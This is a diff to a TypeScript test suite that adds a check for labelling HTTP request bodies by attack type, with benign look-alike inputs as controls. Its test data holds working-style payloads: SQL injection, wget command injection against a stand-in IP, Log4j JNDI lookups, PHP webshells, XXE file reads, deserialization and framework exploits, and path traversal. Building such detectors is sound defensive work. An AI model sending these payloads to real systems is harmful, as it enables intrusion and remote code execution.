@@ -32,6 +32,7 @@ const row = {
   name: null as string | null,
   declared_type: null as string | null,
   found_type: null as string | null,
+  attack_sign: null,
   encoding: null,
   size: 0,
   declared_size: null as number | null,
@@ -72,6 +73,37 @@ describe("files over HTTP", () => {
         ...hashes("MZ\x90more of it")
       }
     ]);
+  });
+
+  it("of requests say by which words they attack, and ordinary ones nothing", async () => {
+    const signs: readonly (readonly [string, string | null])[] = [
+      ["user=admin%27+OR+%271%27%3D%271&password=x", "sql"],
+      ["id=1%20UnIoN%20SELECT%20user()", "sql"],
+      ["ip=127.0.0.1%3Bwget+http://198.51.100.7/a", "command"],
+      ["<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7)</NewStatusURL>", "command"],
+      ['{"name": "${jndi:ldap://198.51.100.7/a}"}', "log4j"],
+      ["a=%24%7B%24%7Blower:j%7Dndi:x%7D", "log4j"],
+      ["pass=%40eval(base64_decode(%24_POST%5Bz0%5D))", "webshell"],
+      ["--b\r\nContent-Disposition: form-data; name=f; filename=a.php\r\n\r\n<?php system($_GET['c']);", "webshell"],
+      ["<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hostname'>]><a>&b;</a>", "xxe"],
+      ["\xac\xed\0\x05sr\0\x32sun.reflect.annotation.AnnotationInvocationHandler", "deserialization"],
+      ["mail[%23post_render][]=exec&mail[%23markup]=id", "exploit"],
+      ["class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "ognl"],
+      ["file=../../../../etc/passwd", "traversal"],
+      ["name=Tom+O%27Brien+or+Ann&text=select+all+from+the+list;+let+it+curl+up", null],
+      ["text=The+union+selected+a+speaker%3B+wgets+of+100%25+%24%7Bname%7D&n=2%2B2", null],
+      ["<?php echo 'hello'; ?>", null],
+      ["<!DOCTYPE a [<!ENTITY b 'c'>]><a/>", null],
+      ["function f() { return `${a}`; } a | b; c && d", null],
+      ["%", null],
+      ["%2", null]
+    ];
+    const said = signs.flatMap(([body], i): Said[] => [
+      [0, `POST /${i} HTTP/1.1\r\nContent-Length: ${body.length}\r\n\r\n${body}`],
+      [1, "HTTP/1.1 204 No Content\r\n\r\n"]
+    ]);
+    const rows = await overHttp(said);
+    expect(rows.map(({attack_sign}) => attack_sign)).toEqual(signs.map(([, sign]) => sign));
   });
 
   it("have no digests where bytes are missing, and are no files without bytes", async () => {
